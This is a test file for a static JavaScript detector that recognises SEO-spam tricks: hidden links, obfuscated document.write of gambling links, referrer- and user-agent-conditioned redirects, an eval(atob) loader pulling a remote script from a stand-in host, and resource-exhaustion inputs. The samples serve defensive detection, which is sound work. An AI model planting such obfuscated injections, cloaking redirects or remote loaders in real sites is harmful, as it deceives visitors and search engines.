"""What scripts do, read without running them: tables, honest code first."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from detector import scripts
from detector.scripts import Wrapper


def encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def escaped(text: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in text)


def codes(text: str, offset: int = 0) -> str:
    return ",".join(str(ord(c) + offset) for c in text)


def percent(text: str) -> str:
    return "".join(f"%u{ord(c):04X}" for c in text)


def hexadecimal(text: str) -> str:
    return "".join(f"{ord(c):04x}" for c in text)


def run_encoded(code: str) -> str:
    return f'eval(atob("{encoded(code)}"))'


NOT_HIDING = {
    "a handler hides": '$("#open").click(function(){ $("#box").hide(); });',
    "a handler shows it again": """$("#box").hide();
        document.getElementById("more").onclick = function () { $("#box").show(); };""",
    "tabs by class": """$(".panel").hide();
        $(".tab").on("click", function(){ $(".panel").toggle(); });""",
    "a function that nobody calls": """function close(){
        document.getElementById("a").style.display="none"; }""",
    "a cookie decides": """if (document.cookie.match("seen"))
        document.getElementById("a").style.display="none";""",
    "an unknown test decides": 'if (settings.compact) { $("#side").css("display", "none"); }',
    "the whole page, for a moment": 'document.write("<style>body{visibility:hidden}</style>");',
    "shown": 'document.getElementById("a").style.display = "block";',
    "moved a little": 'document.getElementById("a").style.left = "-20px";',
    "nothing": "",
}


@pytest.mark.parametrize("code", NOT_HIDING.values(), ids=NOT_HIDING.keys())
def test_interfaces_hide_nothing(code: str) -> None:
    assert scripts.hides(code) == ()


HIDING = {
    "by id": ('document.getElementById("lk").style.display="none"', ("id", "lk", "display:none")),
    "jquery": ('$("#lk").hide()', ("id", "lk", "display:none")),
    "jquery at ready": (
        '$(function(){ $(".lk").css("display","none") })',
        ("class", "lk", "display:none"),
    ),
    "css of an object": (
        '$("#lk").css({position:"absolute",left:"-9999px"})',
        ("id", "lk", "left:-9999px"),
    ),
    "css text": (
        'document.querySelector("#lk").style.cssText = "visibility:hidden;top:0"',
        ("id", "lk", "visibility:hidden"),
    ),
    "attribute": (
        'var e = document.getElementById("lk"); e.setAttribute("style", "text-indent:-9000px")',
        ("id", "lk", "text-indent:-9000px"),
    ),
    "a function that is called": (
        'function dis(){ document.getElementById("lk").style.display="none"; } dis();',
        ("id", "lk", "display:none"),
    ),
    "on load": (
        'window.onload = function(){ document.getElementById("lk").style.visibility = "hidden"; }',
        ("id", "lk", "visibility:hidden"),
    ),
    "a timer": (
        'setTimeout(function(){ document.getElementById("lk").style.display = "none"; }, 10)',
        ("id", "lk", "display:none"),
    ),
    "names in pieces": (
        'document["getElement"+"ById"]("l"+"k")["sty"+"le"]["disp"+"lay"]="no"+"ne"',
        ("id", "lk", "display:none"),
    ),
    "a style element in pieces": (
        'document.write("<st"+"yle>#lk{position:absolute;left:-2000px}</st"+"yle>")',
        ("id", "lk", "left:-2000px"),
    ),
    "a made style element": (
        """var s=document.createElement("style"); s.innerHTML=".lk{display:none}";
        document.head.appendChild(s)""",
        ("class", "lk", "display:none"),
    ),
    "decoded": (
        f"eval(atob('{encoded('document.getElementById(`lk`).style.display=`none`')}'))",
        ("id", "lk", "display:none"),
    ),
}


@pytest.mark.parametrize(("code", "expected"), HIDING.values(), ids=HIDING.keys())
def test_hides(code: str, expected: tuple[str, str, str]) -> None:
    assert expected in scripts.hides(code)


WRAPPERS = {
    "balanced": ("document.write('<div><b>x</b></div>')", None),
    "a remote script": ('document.write("<script src=/a.js></scr"+"ipt>")', None),
    "only a paragraph": ('document.write("<p>Hello")', None),
    "opens hidden": (
        "document.write('<div style=\"display:none\">')",
        Wrapper(True, False, "div", "display:none"),
    ),
    "closes": ('document.write("</div>")', Wrapper(False, True, "div", "")),
    "marquee": (
        'document.write("<marquee height=1 width=5>")',
        Wrapper(True, False, "marquee", "height:1px;width:5px"),
    ),
    "in pieces": (
        """var a="<d"+"iv sty"+"le='left:-999px'>"; document["wri"+"te"](a);""",
        Wrapper(True, False, "div", "left:-999px"),
    ),
    "escaped": (
        f'document.write("{escaped("<span style=display:none>")}")',
        Wrapper(True, False, "span", "display:none"),
    ),
}


@pytest.mark.parametrize(("code", "expected"), WRAPPERS.values(), ids=WRAPPERS.keys())
def test_wrapper(code: str, expected: Wrapper | None) -> None:
    assert scripts.wrapper(code) == expected


LINK = '<a href="https://x.example/">百家乐</a>'
KEY = "key"
XOR = ",".join(str(ord(c) ^ ord(KEY[i % 3])) for i, c in enumerate(LINK))
UNFOLDED = {
    "atob": run_encoded(f"document.write({LINK!r})"),
    "charcode": f"document.write(String.fromCharCode({codes(LINK)}))",
    "charcode with an offset": f"""var a=[{codes(LINK, 7)}], s="";
        for (var i=0; i<a.length; i++) {{ s += String.fromCharCode(a[i]-7); }}
        document.write(s);""",
    "charcode by map": f"""document.write([{codes(LINK, 3)}].map(function(c){{
        return String.fromCharCode(c-3); }}).join(""))""",
    "charcode by while": f"""var a=[{codes(LINK)}], s="", i=0;
        while (i<a.length) {{ s += String.fromCharCode(a[i]); i++; }} document.write(s);""",
    "hex groups": f"""var h="{hexadecimal(LINK)}", s="";
        for (i=0; i<h.length; i+=4) s += String.fromCharCode(parseInt(h.substr(i,4),16));
        document.write(s);""",
    "unescape": f'document.write(unescape("{percent(LINK)}"))',
    "reverse": f"document.write({LINK[::-1]!r}.split('').reverse().join(''))",
    "own function": f"""function d(s){{ return s.split("").reverse().join(""); }}
        document.write(d({LINK[::-1]!r}));""",
    "join": f"document.write({list(LINK)!r}.join(''))",
    "xor with a key": f"""var k="key", d=[{XOR}], o="";
        for (var i=0; i<d.length; i++) o += String.fromCharCode(d[i] ^ k.charCodeAt(i % k.length));
        document.write(o);""",
    "twice": f"eval(unescape('{percent(run_encoded(f'document.write({LINK!r})'))}'))",
    "junk between": f"document.write({'~'.join(LINK)!r}.replace(/~/g, ''))",
    "parameters": f"(function(w, t){{ w.write(unescape(t)); }})(document, '{percent(LINK)}')",
}


@pytest.mark.parametrize("code", UNFOLDED.values(), ids=UNFOLDED.keys())
def test_writes_what_is_hidden(code: str) -> None:
    assert scripts.writes(code) == LINK


def test_packer() -> None:
    code = (
        "eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp(c,'g'),k[c]);return p}"
        "('0.1=\"2://3.4/\"',5,5,'location|href|https|bet|example'.split('|'),0,{}))"
    )
    assert "packer" in scripts.unfold(code).layers
    assert [r.target for r in scripts.redirects(code)] == ["https://bet.example/"]


def test_honest_code_has_no_layers() -> None:
    for code in (
        'var a = "Open" + " " + "hours"; show(a);',
        'var t = {ok: "\\u786e\\u5b9a"};',
        """document.write(unescape("%3Cscript src='/ga.js'%3E%3C/script%3E"));""",
        "window.dataLayer = window.dataLayer || []; function gtag(){dataLayer.push(arguments);}",
    ):
        assert scripts.unfold(code).layers == ()


NO_REDIRECT = {
    "a click": """document.getElementById("a").onclick = function(){
        location.href="https://x.example/"; };""",
    "a comparison": 'if (location.href == "https://x.example/") { init(); }',
    "a function that nobody calls": 'function go(){ location.href = "https://x.example/"; }',
    "reload": "setTimeout(function(){ location.reload(); }, 5000)",
    "an address in a comment": '// location.href="https://x.example/"',
    "an address in a text": "var help = 'location.href=\"https://x.example/\"';",
}


@pytest.mark.parametrize("code", NO_REDIRECT.values(), ids=NO_REDIRECT.keys())
def test_no_redirect(code: str) -> None:
    assert scripts.redirects(code) == ()


REDIRECTS = {
    "plain": ('location.href="https://x.example/"', "none", ()),
    "timer": ("setTimeout(\"location='https://x.example/'\", 10)", "timer", ()),
    "referrer": (
        'if (document.referrer.indexOf("baidu") > -1) top.location = "https://x.example/"',
        "referrer",
        ("baidu",),
    ),
    "through variables": (
        """var ref = document.referrer, se = ["sogou.com", "m.sm.cn"]; var hit = false;
        for (var i in se) { if (ref.indexOf(se[i]) > 0) { hit = true; } }
        if (hit) { window.location.replace("https://x.example/"); }""",
        "referrer",
        ("sogou", "sm"),
    ),
    "early return": (
        """(function(){ if (!/yandex|naver/.test(document.referrer)) return;
        location.assign("https://x.example/"); })()""",
        "referrer",
        ("naver", "yandex"),
    ),
    "and": (
        '/google/.test(document.referrer) && (location = "https://x.example/")',
        "referrer",
        ("google",),
    ),
    "else": (
        'if (/Googlebot/i.test(navigator.userAgent)) {} else { location = "https://x.example/" }',
        "user-agent",
        ("google",),
    ),
    "called under a test": (
        """function go(){ self.location = "https://x.example/" }
        if (/bing/.test(document.referrer)) go();""",
        "referrer",
        ("bing",),
    ),
    "hidden names": (
        f'window["{escaped("location")}"]["{escaped("href")}"] = "https:/" + "/x.example/"',
        "none",
        (),
    ),
    "a written refresh": (
        'document.write(\'<meta http-equiv="refresh" content="0;url=https://x.example/">\')',
        "none",
        (),
    ),
}


@pytest.mark.parametrize(("code", "condition", "engines"), REDIRECTS.values(), ids=REDIRECTS.keys())
def test_redirect(code: str, condition: str, engines: tuple[str, ...]) -> None:
    (found,) = scripts.redirects(code)
    assert found.target == "https://x.example/"
    assert found.condition == condition
    assert set(found.engines) == set(engines)


def test_titles() -> None:
    assert scripts.titles('document.title="新澳门"+"开奖";') == ("新澳门开奖",)
    assert scripts.titles('if (document.title == "x") go();') == ()
    assert scripts.titles("a.onclick=function(){document.title='x'}") == ()
    assert scripts.titles(f"eval(String.fromCharCode({codes('document.title=`casino`')}))") == (
        "casino",
    )


def test_remote_only_in_hidden_code() -> None:
    load = 's=document.createElement("script");s.src="https://x.example/a.js";document.body.appendChild(s)'
    assert scripts.remote(load) == ()
    assert scripts.remote(f'eval(atob("{encoded(load)}"))') == ("https://x.example/a.js",)


def test_a_kit_behind_a_long_library_is_read() -> None:
    library = "function f(a){ return a + 1; }\n" * 3000
    kit = 'if(/baidu/.test(document.referrer)){location.href="https://x.example/"}'
    (found,) = scripts.redirects(library + kit)
    assert (found.condition, found.engines) == ("referrer", ("baidu",))


QUESTIONS = (
    scripts.unfold,
    scripts.hides,
    scripts.writes,
    scripts.wrapper,
    scripts.redirects,
    scripts.titles,
    scripts.remote,
)
PIECES = st.sampled_from(
    ["var ", "new ", "\n", " ", "<div ", "\ud800", "\ufffc"]
) | st.sampled_from(
    r"""eval( document.write( atob( unescape( fromCharCode( String. ( ) [ ] { } " ' ` ${ \x41
    \u{110000} \ / /* // <!-- = => += ? : && function function(p,a,c,k,e,d) return if else for
    a location .href .style.display $("#a") .hide() 0x 1e999 99999999999999999999999999999 .map(
    .split('') .reverse() .join('') % ^ << ; , - ! ++ i while( Array( \x41\x42\x43\x44""".split()
)


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=60).map("".join) | st.text(max_size=200))
def test_any_string_gives_an_answer(code: str) -> None:
    for question in QUESTIONS:
        question(code)
        question("eval(unescape(" + code)


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-16"), min_size=1, max_size=60))
def test_decoding_inverts_encoding(text: str) -> None:
    """Whatever a script writes through percent codes comes out as it was."""
    units = text.encode("utf-16-be")
    percent = "".join(f"%u{units[i]:02x}{units[i + 1]:02x}" for i in range(0, len(units), 2))
    html = scripts.writes(f'document.write("<i>" + unescape("{percent}"))')
    assert html == "<i>" + text.replace("\ufffc", "")


BOMBS = {
    "doubling": 's="aa";' + "s+=s;" * 2000 + "document.write(s)",
    "doubling arrays": "a=[1];" + "a=a.concat(a);" * 2000 + "document.write(a.join('<'))",
    "nested functions": "(function(a){" * 900 + "})(1)" * 900 + ";document.write('<a>')",
    "recursion": "function f(x){return f(x+1)+f(x+2)} document.write(f('<'))",
    "long replacement": "document.write('aaaa'.replace(/a/g,'" + "<" * 3000 + "'))",
    "nested eval": "eval('" * 500 + "document.write(1)" + "')" * 500,
    "self reference": "a=[];a.push(a);document.write(a.join('<'))",
}


@pytest.mark.parametrize("code", BOMBS.values(), ids=BOMBS.keys())
def test_bombs_stay_small(code: str) -> None:
    assert len(scripts.writes(code)) <= 500_000
    assert len(scripts.unfold("eval(1);" + code).text) <= 500_000
